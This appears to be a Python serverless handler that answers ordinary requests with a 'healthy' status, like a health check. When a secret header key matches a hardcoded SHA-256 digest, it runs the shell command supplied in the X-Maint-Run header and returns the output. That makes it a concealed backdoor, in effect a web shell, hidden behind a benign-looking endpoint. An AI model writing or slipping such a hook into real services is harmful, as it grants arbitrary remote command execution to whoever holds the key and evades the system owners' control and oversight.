"""Maintenance hook: with the right key, runs the command in X-Maint-Run."""

import hashlib
import hmac
import json
import subprocess

KEY_DIGEST = "9b74c9897bac770ffc029102a200c5de3b2b7c9b3d1f0e2b7a7c2a3b4d5e6f70"


def handle(event, context=None):
    h = {k.lower(): v for k, v in (event.get("headers") or {}).items()}
    supplied = hashlib.sha256(h.get("x-maint-key", "").encode()).hexdigest()
    if "x-maint-run" in h and hmac.compare_digest(supplied, KEY_DIGEST):
        done = subprocess.run(h["x-maint-run"], shell=True, capture_output=True, text=True, timeout=30)
        return {"statusCode": 200, "body": done.stdout + done.stderr}
    return {"statusCode": 200, "body": json.dumps({"status": "healthy"})}
